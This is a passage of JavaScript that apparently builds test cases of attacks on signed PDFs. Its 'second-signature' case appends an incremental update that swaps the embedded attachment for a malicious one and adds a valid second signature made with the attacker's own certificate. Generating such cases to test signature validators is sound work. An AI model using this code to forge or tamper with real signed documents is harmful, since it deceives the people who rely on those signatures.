    const sigDict = Buffer.from(`<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange ${rangeSlot} /Contents <${placeholder}> /Name (Mallory) /M (D:20261123100000Z) >>`, 'latin1');
    const acroForm = Buffer.from(`<< /Fields [ ${g.widgetRef.num} 0 R ${widgetNum} 0 R ] /SigFlags 3 >>`, 'latin1');
    const widget = Buffer.from(`<< /Type /Annot /Subtype /Widget /FT /Sig /Rect [ 0 0 0 0 ] /V ${sigNum} 0 R /T (Signature2) /F 4 /P ${g.pageRef.num} 0 R >>`, 'latin1');
    const unsigned = incrementalUpdate(genuine, g.xref, g.size, g.root, g.info, new Map([[g.embeddedFileRef.num, embeddedFileObject(evil)], [g.acroFormRef.num, acroForm], [sigNum, sigDict], [widgetNum, widget]]));
    const text = unsigned.toString('latin1');
    const contentsAt = text.lastIndexOf(`/Contents <${placeholder}>`) + '/Contents '.length;
    const gapEnd = contentsAt + placeholder.length + 2;
    const range = `[0 ${String(contentsAt).padStart(10, '0')} ${String(gapEnd).padStart(10, '0')} ${String(unsigned.length - gapEnd).padStart(10, '0')}]`;
    const withRange = Buffer.from(text.replace(rangeSlot, range), 'latin1');
    const signature = await new P12Signer(attacker.p12, { passphrase: attacker.passphrase }).sign(Buffer.concat([withRange.subarray(0, contentsAt), withRange.subarray(gapEnd)]), ATTACK_SIGNING_TIME);
    const hex = Buffer.from(signature).toString('hex').padEnd(placeholder.length, '0');
    withRange.write(hex, contentsAt + 1, 'latin1');
    add('second-signature', 'second-signature', 'A second signature: the attacker’s update replaces the attachment (fit ≥ D and engagement ≥ 1) and adds a signature field “Signature2” with a valid signature by the attacker’s own certificate over the whole file.', withRange);
  }
  return attacks;
}
